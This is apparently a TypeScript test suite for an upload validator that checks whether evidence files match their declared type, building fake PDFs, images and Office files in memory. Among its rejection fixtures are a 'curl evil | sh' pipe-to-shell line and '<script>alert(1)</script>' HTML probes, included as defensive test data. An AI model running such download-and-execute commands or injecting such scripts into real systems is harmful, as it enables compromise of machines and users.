import { crc32, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { EVIDENCE_CONTENT_TYPES } from '../../../shared/evidence/evidence-types.js';
import { matchesDeclaredType, SNIFF_BYTES } from '../../../shared/evidence/sniff-content.js';
import { samplePdf } from '../../support/evidence-uploads.js';

const PDF = 'application/pdf';
const DOC = 'application/msword';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const PPT = 'application/vnd.ms-powerpoint';
const PPTX = 'application/vnd.openxmlformats-officedocument.presentationml.presentation';
const XLS = 'application/vnd.ms-excel';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

// ---- Fixture builders: real file structures made in memory, so no binaries are committed. ----

/** Concatenates byte strings (each char one byte), byte arrays and Uint8Arrays. */
function bytes(...parts: (string | number[] | Uint8Array)[]): Uint8Array {
  return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));
}

function u16(n: number): number[] {
  return [n & 0xff, (n >>> 8) & 0xff];
}

function u32(n: number): number[] {
  return [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
}

/** A complete 1×1 grey PNG. */
function png(): Uint8Array {
  const chunk = (type: string, data: Uint8Array) => {
    const typed = bytes(type, data);
    return bytes(u32(data.length).reverse(), typed, u32(crc32(typed)).reverse());
  };
  const header = bytes(u32(1).reverse(), u32(1).reverse(), [8, 0, 0, 0, 0]);
  return bytes(
    [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.from([0, 0x80]))),
    chunk('IEND', new Uint8Array()),
  );
}

/** The start of a JFIF JPEG: SOI and the APP0 segment. */
function jpeg(): Uint8Array {
  return bytes([0xff, 0xd8, 0xff, 0xe0], u16(16).reverse(), 'JFIF\0', [1, 1, 0], u16(1), u16(1), [0, 0]);
}

/** A ZIP with stored (uncompressed) entries, local headers first, then the central directory. */
function zip(entries: { name: string; data?: string | Uint8Array }[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const { name, data = '' } of entries) {
    const content = typeof data === 'string' ? bytes(data) : data;
    const sizes = [...u32(crc32(content)), ...u32(content.length), ...u32(content.length)];
    const local = bytes('PK\x03\x04', u16(20), u16(0), u16(0), u16(0), u16(0x21), sizes, u16(name.length), u16(0));
    locals.push(local, bytes(name), content);
    centrals.push(
      bytes('PK\x01\x02', u16(20), u16(20), u16(0), u16(0), u16(0), u16(0x21), sizes, u16(name.length)),
      bytes(u16(0), u16(0), u16(0), u16(0), u32(0), u32(offset), name),
    );
    offset += local.length + name.length + content.length;
  }
  const central = bytes(...centrals);
  const end = bytes('PK\x05\x06', u16(0), u16(0), u16(entries.length), u16(entries.length), u32(central.length));
  return bytes(...locals, central, end, u32(offset), u16(0));
}

/** An OOXML package laid out as Office writes it, with its main part under `folder`. */
function ooxml(folder: 'word/' | 'ppt/' | 'xl/', before: { name: string; data?: Uint8Array }[] = []): Uint8Array {
  const main = { 'word/': 'document.xml', 'ppt/': 'presentation.xml', 'xl/': 'workbook.xml' }[folder];
  return zip([
    { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types/>' },
    { name: '_rels/.rels', data: '<?xml version="1.0"?><Relationships/>' },
    ...before,
    { name: `${folder}${main}`, data: '<?xml version="1.0"?><root/>' },
  ]);
}

/** An OLE2 compound file: the 512-byte header, then a directory sector naming `streams` (unless `gap` pushes it away). */
function ole2(streams: string[], gap = 0): Uint8Array {
  const header = new Uint8Array(512);
  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  header.set([...u16(0x3e), ...u16(3), ...u16(0xfffe), ...u16(9), ...u16(6)], 0x18);
  const entry = (name: string, type: number) => {
    const e = new Uint8Array(128);
    e.set(Buffer.from(`${name}\0`, 'utf16le'));
    e.set(u16((name.length + 1) * 2), 64);
    e[66] = type;
    return e;
  };
  const directory = bytes(entry('Root Entry', 5), ...streams.map((s) => entry(s, 2)));
  const padding = new Uint8Array((512 - (directory.length % 512)) % 512);
  return bytes(header, new Uint8Array(gap), directory, padding);
}

// ---- Rules ----

describe('matchesDeclaredType accepts genuine files', () => {
  it.each([
    ['a one-page PDF', PDF, samplePdf()],
    ['a PNG image', 'image/png', png()],
    ['a JPEG image', 'image/jpeg', jpeg()],
    ['a Word .docx', DOCX, ooxml('word/')],
    ['a PowerPoint .pptx', PPTX, ooxml('ppt/')],
    ['an Excel .xlsx', XLSX, ooxml('xl/')],
    ['a Word .doc', DOC, ole2(['WordDocument', '1Table', '\x05SummaryInformation'])],
    ['a PowerPoint .ppt', PPT, ole2(['PowerPoint Document', 'Current User'])],
    ['an Excel .xls', XLS, ole2(['Workbook'])],
    ['an Excel 5 .xls', XLS, ole2(['Book'])],
  ])('accepts %s', (_name, contentType, file) => {
    // Act
    const result = matchesDeclaredType(contentType, file.subarray(0, SNIFF_BYTES));

    // Assess
    expect(result).toEqual({ ok: true });
  });

  it('accepts a declared type given with parameters or in capitals', () => {
    // Act
    const result = matchesDeclaredType('Application/PDF; charset=binary', samplePdf());

    // Assess
    expect(result).toEqual({ ok: true });
  });

  it('accepts a legacy Office file whose directory lies beyond the bytes read', () => {
    // Prepare: the directory sits after the window, as Office often writes it at the end
    const file = ole2(['WordDocument'], SNIFF_BYTES);

    // Act
    const result = matchesDeclaredType(DOC, file.subarray(0, SNIFF_BYTES));

    // Assess
    expect(result).toEqual({ ok: true });
  });

  it('accepts an OOXML package whose main part lies beyond the bytes read when [Content_Types].xml is seen', () => {
    // Prepare: a large thumbnail pushes word/document.xml past the window
    const file = ooxml('word/', [{ name: 'docProps/thumbnail.jpeg', data: new Uint8Array(SNIFF_BYTES) }]);

    // Act
    const result = matchesDeclaredType(DOCX, file.subarray(0, SNIFF_BYTES));

    // Assess
    expect(result).toEqual({ ok: true });
  });

  it('accepts any content after a genuine PDF, PNG or JPEG signature', () => {
    const headers = fc.constantFrom(
      { contentType: PDF, header: bytes('%PDF-') },
      { contentType: 'image/png', header: png().subarray(0, 8) },
      { contentType: 'image/jpeg', header: bytes([0xff, 0xd8, 0xff]) },
    );
    fc.assert(
      fc.property(headers, fc.uint8Array({ maxLength: 256 }), ({ contentType, header }, rest) => {
        expect(matchesDeclaredType(contentType, bytes(header, rest))).toEqual({ ok: true });
      }),
    );
  });
});

describe('matchesDeclaredType refuses files that are not what they claim', () => {
  it.each([
    ['a renamed Windows executable', PDF, bytes('MZ\x90\x00\x03\x00\x00\x00'), 'starts like a Windows executable'],
    ['a renamed Linux executable', DOCX, bytes('\x7fELF\x02\x01\x01'), 'starts like a Linux (ELF) executable'],
    ['a shell script', PDF, bytes('#!/bin/sh\ncurl evil | sh\n'), 'starts like a script'],
    ['an HTML page', PDF, bytes('\xef\xbb\xbf\n  <!DOCTYPE html><html><script>alert(1)</script>'), 'an HTML page'],
    ['an HTML fragment', 'image/png', bytes('<script>alert(1)</script>'), 'an HTML page'],
    ['an SVG image', 'image/png', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'an XML or SVG document'],
    ['an RTF saved as .doc', DOC, bytes('{\\rtf1\\ansi hello}'), 'starts like an RTF document'],
    ['a GIF as a PNG', 'image/png', bytes('GIF89a\x01\x00\x01\x00'), 'starts like a GIF image'],
    ['a JPEG as a PNG', 'image/png', jpeg(), 'starts like a JPEG image'],
    ['a .docx as a .doc', DOC, ooxml('word/'), 'starts like a ZIP archive'],
    ['plain text', PDF, bytes('Dear judges, please find attached'), 'does not start like a PDF document'],
    ['text as a Word file', DOCX, bytes('hello'), 'does not start like a Word document'],
  ])('refuses %s', (_name, contentType, file, reason) => {
    // Act
    const result = matchesDeclaredType(contentType, file);

    // Assess
    expect(result.ok).toBe(false);
    expect(!result.ok && result.reason).toContain(reason);
  });

  it('refuses a PNG declared as a PDF, saying what the file looks like', () => {
    // Act
    const result = matchesDeclaredType(PDF, png());

    // Assess
    expect(result).toEqual({ ok: false, reason: 'declared application/pdf but the file starts like a PNG image' });
  });

  it('refuses an empty file', () => {
    // Act
    const result = matchesDeclaredType(PDF, new Uint8Array());

    // Assess
    expect(result).toEqual({ ok: false, reason: 'the file is empty' });
  });

  it('refuses a content type off the allow-list, whatever the bytes', () => {
    // Act
    const result = matchesDeclaredType('text/html', bytes('<html>'));

    // Assess
    expect(result).toEqual({ ok: false, reason: 'text/html is not an allowed evidence type' });
  });

  it('refuses a PDF whose signature comes after other bytes (a polyglot)', () => {
    // Act
    const result = matchesDeclaredType(PDF, bytes('<html>\n', samplePdf()));

    // Assess
    expect(result.ok).toBe(false);
  });

  it.each([
    ['an Excel .xlsx declared as Word', DOCX, ooxml('xl/'), 'is an Excel workbook'],
    ['a PowerPoint .pptx declared as Excel', XLSX, ooxml('ppt/'), 'is a PowerPoint presentation'],
    ['a Word .doc declared as PowerPoint', PPT, ole2(['WordDocument']), 'is a Word document (legacy format)'],
    ['an Excel .xls declared as Word', DOC, ole2(['Workbook']), 'is an Excel workbook (legacy format)'],
  ])('refuses %s', (_name, contentType, file, reason) => {
    // Act
    const result = matchesDeclaredType(contentType, file);

    // Assess
    expect(!result.ok && result.reason).toContain(reason);
  });

  it('refuses a ZIP archive that shows no Office parts', () => {
    // Act
    const result = matchesDeclaredType(DOCX, zip([{ name: 'setup.exe', data: 'MZ' }, { name: 'readme.txt' }]));

    // Assess
    expect(result).toEqual({
      ok: false,
      reason: `declared ${DOCX} but the file is a ZIP archive, not an Office document`,
    });
  });

  it('refuses a macro-enabled workbook renamed to .xlsx', () => {
    // Prepare
    const file = ooxml('xl/', [{ name: 'xl/vbaProject.bin', data: new Uint8Array(16) }]);

    // Act
    const result = matchesDeclaredType(XLSX, file);

    // Assess
    expect(!result.ok && result.reason).toContain('contains macros');
  });

  it('refuses a password-protected Office file, which judges could not open', () => {
    // Prepare: Office encrypts a .docx into an OLE2 container with an EncryptedPackage stream
    const file = ole2(['EncryptedPackage', '\x06DataSpaces', 'EncryptionInfo']);

    // Act
    const result = matchesDeclaredType(DOC, file);

    // Assess
    expect(!result.ok && result.reason).toContain('password-protected');
  });

  it('does not take a legacy document that mentions "Workbook" in its text for a spreadsheet', () => {
    // Prepare: the word appears as UTF-16 text, not as a directory entry
    const file = bytes(ole2(['WordDocument']), Buffer.from('The improvement Workbook\0', 'utf16le'));

    // Act
    const result = matchesDeclaredType(DOC, file);

    // Assess
    expect(result).toEqual({ ok: true });
  });

  it('refuses any file that does not begin with the declared type’s signature', () => {
    // Prepare: no allowed signature starts with a byte outside %, 0x89, 0xFF, 0xD0 and P
    const firstBytes = fc
      .uint8Array({ minLength: 1, maxLength: 64 })
      .filter((b) => ![0x25, 0x89, 0xff, 0xd0, 0x50].includes(b[0]!));
    fc.assert(
      fc.property(fc.constantFrom(...EVIDENCE_CONTENT_TYPES), firstBytes, (contentType, file) => {
        expect(matchesDeclaredType(contentType, file).ok).toBe(false);
      }),
    );
  });
});
